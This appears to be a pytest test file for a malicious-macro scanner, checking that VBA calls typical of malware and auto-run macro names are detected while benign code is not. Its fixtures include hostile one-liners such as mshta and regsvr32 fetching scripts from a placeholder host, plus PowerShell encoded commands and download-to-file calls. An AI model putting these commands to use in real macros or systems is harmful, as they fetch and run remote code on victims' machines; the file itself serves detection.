"""Words of macros: each call is found as malware writes it, and not as honest code does."""

import re

import pytest

from scanners.documents.macro_words import AUTO_RUN, CALLS, EVENTS

HITS = {
    "Shell": 'x = shell("calc.exe", 1)',
    "WScript.Shell": 'createobject("wscript.shell").run a',
    "Shell.Application": 'getobject("new:13709620-c279-11ce-a49e-444553540000")',
    "ScriptControl": 'createobject("scriptcontrol")',
    "WMI": 'getobject("winmgmts:\\\\.\\root\\cimv2")',
    "Schedule.Service": 'createobject("schedule.service")',
    "XMLHTTP": 'createobject("msxml2.xmlhttp.6.0")',
    "URLDownloadToFile": 'declare function f lib "x" alias "urldownloadtofilea" ()',
    "SaveToFile": 'stream.savetofile "a.exe", 2',
    "cmd": 'y = "cmd.exe /c calc"',
    "PowerShell": 'y = "powershell -enc aaaa"',
    "script host": 'y = "mshta http://a.example/b"',
    "system program": 'y = "regsvr32 /s /n /u /i:http://a.example scrobj.dll"',
    "ShellExecute": 'declare sub s lib "shell32.dll" alias "shellexecutea" ()',
    "process or memory": 'declare function v lib "kernel32" alias "virtualalloc" ()',
    "network library": 'declare function i lib "wininet.dll" ()',
    "Mac script": 'macscript ("do shell script")',
    "DDE": 'ddeinitiate(app:="x", topic:="cmd")',
}
MISSES = (
    "dim shell as object", "shell = 1", "me.shell = x", 'msgbox "shell we"', "commandbutton1_click",
    'declare sub sleep lib "kernel32" (byval ms as long)', "rundll as string", 'x = "cmdopen"',
    'copymemory a, b, 4: declare sub c lib "kernel32" alias "rtlmovememory" ()', "wscript.quit",
)  # fmt: skip


def names(code: str) -> set[str]:
    bare = re.sub(r'"[^"]*"', '""', code)
    return {call.name for call in CALLS if call.found(code, bare)}


@pytest.mark.parametrize("name, code", HITS.items())
def test_hits(name: str, code: str) -> None:
    assert name in names(code)


def test_every_call_has_a_hit() -> None:
    assert {call.name for call in CALLS} == set(HITS)


@pytest.mark.parametrize("code", MISSES)
def test_misses(code: str) -> None:
    assert names(code) == set()


@pytest.mark.parametrize(
    "name",
    ["autoopen", "auto_open", "autoexec", "document_open", "documentopen", "workbook_open",
     "workbook_beforeclose", "auto_close", "application_startup", "document_beforeclose"],
)  # fmt: skip
def test_names_that_run_by_themselves(name: str) -> None:
    assert re.fullmatch(AUTO_RUN, name)


def test_names_that_wait_for_an_act() -> None:
    for name in ("commandbutton1_click", "worksheet_change", "openfile", "workbook_newsheet"):
        assert not re.fullmatch(f"{AUTO_RUN}|{EVENTS}", name)
    assert re.fullmatch(EVENTS, "inkpicture1_painted")
